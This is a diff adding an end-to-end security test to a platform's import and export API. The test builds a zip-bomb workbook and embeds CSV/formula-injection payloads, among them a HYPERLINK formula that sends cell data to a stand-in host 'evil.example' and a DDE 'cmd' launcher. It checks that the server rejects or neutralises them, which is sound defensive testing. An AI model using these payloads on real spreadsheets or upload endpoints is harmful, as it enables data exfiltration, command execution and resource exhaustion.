@@ -4,10 +4,13 @@ schemathesis, as several roles, plus hand-written attacks."""
 
 import base64
 import datetime
+import io
 import json
 import time
+import zipfile
 
 import jwt
+import openpyxl
 import pytest
 import requests
 import schemathesis
@@ -19,6 +22,8 @@ from schemathesis.specs.openapi.checks import (
     status_code_conformance,
 )
 
+from common import xlsx
+from services.tasks.taskflow.queries import XLSX_HEADERS
 from tests.e2e.conftest import start_platform
 
 ROLES = ("admin", "township", "member")
@@ -316,3 +321,86 @@ def test_every_route_answers_within_its_contract(fuzz_platform, role_headers):
         exercise()
         tested.append(f"{operation.method.upper()} {operation.path}")
     assert len(tested) >= 100, tested
+
+
+def _workbook(rows: list[list], padding: int = 0) -> bytes:
+    book = openpyxl.Workbook()
+    for row in rows:
+        book.active.append(row)
+    out = io.BytesIO()
+    book.save(out)
+    if not padding:
+        return out.getvalue()
+    padded = io.BytesIO()  # the same workbook, its sheet inflating to `padding` more bytes
+    with zipfile.ZipFile(out) as src, zipfile.ZipFile(padded, "w", zipfile.ZIP_DEFLATED) as dst:
+        for info in src.infolist():
+            data = src.read(info.filename)
+            dst.writestr(
+                info.filename, data + b" " * padding if info.filename.endswith("sheet1.xml") else data
+            )
+    return padded.getvalue()
+
+
+def test_hostile_files_in_and_out(platform_module):
+    base = platform_module.base_url + "/api/v1"
+    admin = platform_module.login("admin")
+    people = [["编号", "姓名", "角色", "所属组织编码"]]
+    catalogue_before = requests.get(base + "/catalogue", headers=admin, timeout=10).json()["meta"]["total"]
+
+    # a zip bomb: small on the wire, 120 MB inflated; refused before parsing
+    bomb = _workbook(people, padding=120 * 1024 * 1024)
+    assert len(bomb) < 10 * 1024 * 1024
+    for path, name in (("/imports/people", "人员.xlsx"), ("/catalogue/import", "事项.xlsx")):
+        r = requests.post(base + path, headers=admin, files={"file": (name, bomb)}, timeout=60)
+        assert r.status_code == 413 and r.json()["code"] == "import_too_large", r.text
+        assert r.json()["title"] == "导入文件解压后过大(上限 100 MB)或压缩比异常,请拆分后再导入"
+
+    # more rows than this platform allows (GOV_IMPORT_MAX_ROWS=200)
+    many = _workbook(people + [[f"P{i}", "张三", "党员", "G1"] for i in range(250)])
+    r = requests.post(
+        base + "/imports/people",
+        headers={**admin, "Accept-Language": "en"},
+        files={"file": ("p.xlsx", many)},
+        timeout=60,
+    )
+    assert (r.status_code, r.json()["code"], r.json()["title"]) == (
+        422,
+        "import_too_many_rows",
+        "The import file has more than 200 rows; split it",
+    )
+
+    # a formula in a matter's name goes in as text and comes out of the export as text
+    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'
+    row = [
+        "ZX901",
+        hostile,
+        "其他",
+        "村",
+        "县委社会工作部",
+        5,
+        "否",
+        "文字说明",
+        "@SUM(1+1)",
+        "+cmd|' /C calc'!A0",
+        "在用",
+    ]
+    r = requests.post(
+        base + "/catalogue/import",
+        headers=admin,
+        # typed as text (in Excel: with a leading apostrophe); a real formula would import empty
+        files={"file": ("c.xlsx", xlsx.write_workbook("事项清单", XLSX_HEADERS, [row]))},
+        timeout=60,
+    )
+    assert r.status_code == 200 and r.json()["created"] == 1, r.text
+    assert (
+        requests.get(base + "/catalogue", headers=admin, timeout=10).json()["meta"]["total"]
+        == catalogue_before + 1
+    )
+    exported = requests.get(base + "/catalogue/export", headers=admin, timeout=30)
+    [line] = [
+        r
+        for r in openpyxl.load_workbook(io.BytesIO(exported.content)).active.iter_rows()
+        if r[0].value == "ZX901"
+    ]
+    for cell, text in ((line[1], hostile), (line[8], "@SUM(1+1)"), (line[9], "+cmd|' /C calc'!A0")):
+        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
